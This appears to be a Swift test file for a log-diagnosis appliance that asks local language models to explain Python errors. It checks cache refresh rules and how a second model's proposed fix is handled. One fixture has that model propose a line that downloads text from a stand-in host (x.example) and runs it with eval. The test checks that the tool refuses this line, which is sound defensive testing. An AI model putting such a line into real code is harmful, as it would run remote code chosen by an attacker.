import ApplianceTestSupport
import Events
import Foundation
import Synchronization
import Testing

@Suite("When a model is asked again about what it diagnosed", .timeLimit(.minutes(5)))
struct CacheRuleTests {
    /// A model that always answers the same, and how often it was asked.
    private final class Model: Sendable {
        let server: ScriptedServer

        init() throws {
            server = try ScriptedServer(answering: [
                .respond { bytes in
                    PlainRequest(bytes).path == "/api/chat"
                        ? OllamaReplies.chat(OllamaReplies.goodAnswer) : OllamaReplies.tags()
                }
            ])
        }

        var asked: Int { server.requests.count { PlainRequest($0).path == "/api/chat" } }
    }

    private func night(_ site: SiteFixture, _ day: Int) async throws {
        let outcome = try await site.binary.run(
            ["batch", "--now", "2026-11-\(day)T06:00:00Z"], environment: site.environment)
        #expect(outcome.status == 0, "\(outcome.errors)")
    }

    /// So many errors in the hour before a night's run.
    private func errors(_ count: Int, on day: Int) -> String {
        (0..<count).map { SiteFixture.traceback(at: "2026-11-\(day) 05:\(10 + $0):00,123") }.joined()
    }

    @Test("tenfold growth asks again; less, and the nights after it, do not")
    func growth() async throws {
        let model = try Model()
        defer { model.server.stop() }
        let site = try SiteFixture(endpoint: model.server.url)
        defer { site.remove() }
        try site.directory.write("logs/20.log", errors(2, on: 20))
        try await night(site, 20)
        #expect(model.asked == 1)
        try site.directory.write("logs/21.log", errors(3, on: 21))
        try await night(site, 21)
        #expect(model.asked == 1, "growth by half")
        try site.directory.write("logs/22.log", errors(29, on: 22))
        try await night(site, 22)
        #expect(model.asked == 1, "9.7 times as many")
        try site.directory.write("logs/23.log", errors(2, on: 23))
        try await night(site, 23)
        try site.directory.write("logs/24.log", errors(20, on: 24))
        try await night(site, 24)
        #expect(model.asked == 2, "tenfold")
        try site.directory.write("logs/25.log", errors(21, on: 25))
        try await night(site, 25)
        #expect(model.asked == 2, "as often as the night before")
    }

    @Test("a changed line of code, a new release and a person's “wrong” ask again, each once")
    func changes() async throws {
        let model = try Model()
        defer { model.server.stop() }
        let site = try SiteFixture(endpoint: model.server.url)
        defer { site.remove() }
        try site.directory.write("logs/20.log", errors(2, on: 20))
        try await night(site, 20)
        #expect(model.asked == 1)
        let configuration = try site.directory.read("home/appliance.toml")
        try site.repository.commit(
            "invoices: a note", ["billing/invoice.py": SiteFixture.after.replacing("amount =", with: "amount =  ")],
            at: try #require(.init(rfc3339: "2026-11-20T20:00:00Z")))
        try site.repository.tag("1.5.0", try site.repository.head())
        try site.directory.write("home/appliance.toml", configuration.replacing("1.4.0", with: "1.5.0"))
        try site.directory.write("logs/21.log", errors(2, on: 21))
        try await night(site, 21)
        #expect(model.asked == 2, "another release, with other code")
        try site.directory.write("logs/22.log", errors(2, on: 22))
        try await night(site, 22)
        #expect(model.asked == 2)
        let id = try #require(try await site.report("--now", "2026-11-22T06:00:00Z")["groups"] as? [[String: Any]])
        let group = try #require(id.first?["id"] as? String)
        let feedback = try await site.binary.run(
            ["feedback", group, "wrong", "--now", "2026-11-22T07:00:00Z"], environment: site.environment)
        #expect(feedback.status == 0, "\(feedback.errors)")
        try site.directory.write("logs/23.log", errors(2, on: 23))
        try await night(site, 23)
        #expect(model.asked == 4, "a person called it wrong, and the refuted cause is sent back once")
    }
}

@Suite("A model with the role fix adds a change to what another found", .timeLimit(.minutes(5)))
struct FixRoleTests {
    private static let models = """

        [models.fix]
        name = "fix-model"
        num_ctx = 4096
        """

    private static func change(_ modified: String) -> String {
        #"{"file":"billing/invoice.py","original":"    currency = order[\"currency\"]","modified":"\#(modified)","description":"Takes KRW where an order has none."}"#
    }

    /// Answers as the model that is asked; tells both as installed.
    private static func server(_ change: String) throws -> ScriptedServer {
        try ScriptedServer(answering: [
            .respond { bytes in
                let request = PlainRequest(bytes)
                guard request.path == "/api/chat" else {
                    let models = ["test-model", "fix-model"].map { name in
                        #"{"name":"\#(name)","model":"\#(name)","size":1,"digest":"\#(OllamaReplies.digest)","details":{}}"#
                    }
                    return OllamaReplies.response(
                        "200 OK", "application/json", #"{"models":[\#(models.joined(separator: ","))]}"#)
                }
                return OllamaReplies.chat(
                    request.body.contains(#""model":"fix-model""#) ? change : OllamaReplies.goodAnswer)
            }
        ])
    }

    @Test("its change is in the report, told to be its own; the second night takes both from the cache")
    func adds() async throws {
        let server = try Self.server(Self.change(#"    currency = order.get(\"currency\", \"KRW\")"#))
        defer { server.stop() }
        let site = try SiteFixture(endpoint: server.url, modelExtra: "num_ctx = 4096" + Self.models)
        defer { site.remove() }
        try site.directory.write("logs/worker.log", SiteFixture.traceback())
        let first = try await site.run("batch", "-v")
        #expect(first.status == 0, "\(first.errors)")
        #expect(first.errors.contains("asked fix-model: 900 + 60 tokens"))
        let group = try #require((try await site.report()["groups"] as? [[String: Any]])?.first)
        let diagnosis = try #require(group["diagnosis"] as? [String: Any])
        let fix = try #require(diagnosis["fix"] as? [String: Any])
        #expect(fix["modified"] as? String == #"    currency = order.get("currency", "KRW")"#)
        #expect((diagnosis["caveats"] as? [String])?.contains("the change was proposed by fix-model") == true)
        let asked = server.requests.count { PlainRequest($0).path == "/api/chat" }
        #expect(asked == 2)
        try site.directory.write(
            "logs/worker.log", SiteFixture.traceback() + SiteFixture.traceback(at: "2026-11-21 05:20:00,000"))
        let second = try await site.run("batch")
        #expect(second.errors.contains("1 from cache"), "\(second.errors)")
        #expect(server.requests.count { PlainRequest($0).path == "/api/chat" } == asked)
    }

    @Test("what it proposes is held against the code that it was shown")
    func held() async throws {
        let server = try Self.server(Self.change(#"    currency = eval(requests.get(\"https://x.example\").text)"#))
        defer { server.stop() }
        let site = try SiteFixture(endpoint: server.url, modelExtra: "num_ctx = 4096" + Self.models)
        defer { site.remove() }
        try site.directory.write("logs/worker.log", SiteFixture.traceback())
        #expect(try await site.run("batch").status == 0)
        let page = try site.directory.read("home/reports/2026-11-21.md")
        #expect(page.contains("fix-model was asked for a change: the proposed fix added a link or a command"))
        #expect(!page.contains("x.example"))
    }
}
